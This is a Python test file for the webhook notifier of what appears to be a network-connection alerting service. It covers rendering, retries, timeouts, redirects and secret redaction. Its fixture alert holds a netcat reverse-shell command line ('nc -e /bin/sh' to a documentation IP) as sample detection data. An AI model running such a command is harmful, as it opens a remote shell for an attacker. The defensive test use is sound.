"""Notify stage: registry, pure rendering, and the webhook against a real HTTP receiver."""

from __future__ import annotations

import json
import socket

import pytest
from alerts_support import Answer, ScriptedEndpoint
from deliver_support import make_alert as shared_alert

from alert_service.deliver.retry import RetryPolicy, backoff_secs
from alert_service.errors import NotifyError
from alert_service.match import Alert
from alert_service.notify import (
    DEFAULT_REGISTRY,
    WebhookNotifier,
    WebhookSettings,
    encode_json,
    parse_retry_after,
)
from alert_service.secret import Secret


def make_alert(**columns: str | int | None) -> Alert:
    row: dict[str, str | int | None] = {
        "remote_address": "198.51.100.7",
        "remote_port": 4444,
        "name": "nc",
        "path": "/usr/bin/nc",
        "cmdline": "nc -e /bin/sh 198.51.100.7 4444 — ünïcode",
        "pid": 901,
        "uid": None,
    }
    return shared_alert(notify=("local",), columns={**row, **columns})


def webhook(url: str | Secret, **kw: object) -> WebhookNotifier:
    return WebhookNotifier.from_config("local", {"url": url, **kw})


def test_registry_knows_webhook() -> None:
    assert "webhook" in DEFAULT_REGISTRY.types()
    assert DEFAULT_REGISTRY.get("webhook") is WebhookNotifier
    assert WebhookNotifier.type == "webhook"


def test_render_is_pure_and_golden() -> None:
    alert = make_alert()
    notifier = webhook("http://127.0.0.1:9/unused")
    first = notifier.render(alert)
    assert first == {
        "id": alert.id,
        "rule": "reverse-shell",
        "severity": None,
        "host": "web-01",
        "host_name": "web-01.example.com",
        "host_uuid": None,
        "query": "pack_tracked_connections_tracked_connections",
        "action": "added",
        "unix_time": 1756796709,
        "epoch": 0,
        "counter": 3,
        "connection": {
            "remote_address": "198.51.100.7",
            "remote_port": 4444,
            "name": "nc",
            "path": "/usr/bin/nc",
            "cmdline": "nc -e /bin/sh 198.51.100.7 4444 — ünïcode",
            "pid": 901,
            "uid": None,
        },
        "decorations": {"hostname": "web-01.example.com"},
    }
    first["connection"]["pid"] = 0
    assert notifier.render(alert)["connection"]["pid"] == 901
    notifier.close()


def test_webhook_200(receiver: ScriptedEndpoint) -> None:
    alert = make_alert()
    notifier = webhook(
        receiver.url, headers={"X-Team": "soc", "Authorization": Secret("Bearer t", "env:T")}
    )
    try:
        notifier.notify(alert)
    finally:
        notifier.close()
    (got,) = receiver.requests
    assert got.path == "/alerts"
    assert got.headers["Content-Type"] == "application/json; charset=utf-8"
    assert got.headers["webhook-id"] == alert.id
    assert got.headers["X-Team"] == "soc"
    assert got.headers["Authorization"] == "Bearer t"
    assert got.headers["User-Agent"].startswith("tracked-connections-alerts/")
    assert "ünïcode".encode() in got.body  # UTF-8, not \u escapes
    assert got.json() == alert.as_dict()


def test_webhook_500_then_200_resends_the_same_body_and_id(receiver: ScriptedEndpoint) -> None:
    receiver.answer(500)
    alert = make_alert()
    notifier = webhook(receiver.url)
    try:
        with pytest.raises(NotifyError) as info:
            notifier.notify(alert)
        notifier.notify(alert)
    finally:
        notifier.close()
    assert (info.value.retryable, info.value.error_type) == (True, "http_status")
    first, second = receiver.requests
    assert first.body == second.body
    assert first.headers["webhook-id"] == second.headers["webhook-id"] == alert.id


def test_webhook_400_is_not_retryable(receiver: ScriptedEndpoint) -> None:
    receiver.answer(400)
    notifier = webhook(receiver.url)
    try:
        with pytest.raises(NotifyError) as info:
            notifier.notify(make_alert())
    finally:
        notifier.close()
    assert info.value.retryable is False
    assert "HTTP 400" in str(info.value)
    assert "local" in str(info.value)
    assert len(receiver.requests) == 1


def test_connection_refused_is_retryable_and_does_not_leak_the_url() -> None:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    secret_url = Secret(f"http://127.0.0.1:{port}/hook/TOKEN123", "env:HOOK")
    notifier = webhook(secret_url)
    try:
        with pytest.raises(NotifyError) as info:
            notifier.notify(make_alert())
    finally:
        notifier.close()
    assert info.value.retryable is True
    assert info.value.error_type == "connection"
    assert "TOKEN123" not in str(info.value)


def test_read_timeout_is_retryable(receiver: ScriptedEndpoint) -> None:
    receiver.delay_secs = 0.5
    notifier = webhook(receiver.url, timeout_secs=0.1)
    try:
        with pytest.raises(NotifyError) as info:
            notifier.notify(make_alert())
    finally:
        notifier.close()
    assert info.value.retryable is True
    assert info.value.error_type == "timeout"


def test_redirect_is_not_followed(receiver: ScriptedEndpoint) -> None:
    receiver.answer(Answer(302, {"Location": "/elsewhere"}))
    notifier = webhook(receiver.url)
    try:
        with pytest.raises(NotifyError) as info:
            notifier.notify(make_alert())
    finally:
        notifier.close()
    assert info.value.retryable is False
    assert len(receiver.requests) == 1


def test_settings_defaults() -> None:
    notifier = webhook("https://example.com/h")
    assert notifier.settings == WebhookSettings(url="https://example.com/h")
    assert notifier.settings.timeout_secs == 10.0
    notifier.close()


def test_encode_json_falls_back_to_ascii_for_lone_surrogates() -> None:
    body = encode_json({"a": "x\ud800y", "b": "é"})
    assert json.loads(body) == {"a": "x\ud800y", "b": "é"}
    assert encode_json({"b": "é"}) == '{"b":"é"}'.encode()
    with pytest.raises(NotifyError, match="not JSON"):
        encode_json({"a": object()})


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("120", 120.0),
        (None, None),
        ("", None),
        ("soon", None),
        ("Thu, 01 Jan 1970 00:01:40 GMT", 40.0),
    ],
)
def test_parse_retry_after(value: str | None, expected: float | None) -> None:
    assert parse_retry_after(value, now=60.0) == expected


def test_backoff_is_capped_full_jitter() -> None:
    policy = RetryPolicy(max_attempts=10, initial_backoff_secs=1.0, max_backoff_secs=5.0)
    assert backoff_secs(policy, 0, rng=lambda: 0.999) == pytest.approx(0.999)
    assert backoff_secs(policy, 2, rng=lambda: 0.5) == 2.0
    assert backoff_secs(policy, 30, rng=lambda: 1.0) == 5.0
    assert backoff_secs(policy, 0, rng=lambda: 0.0) == 0.0
    assert backoff_secs(policy, 10_000, rng=lambda: 1.0) == 5.0
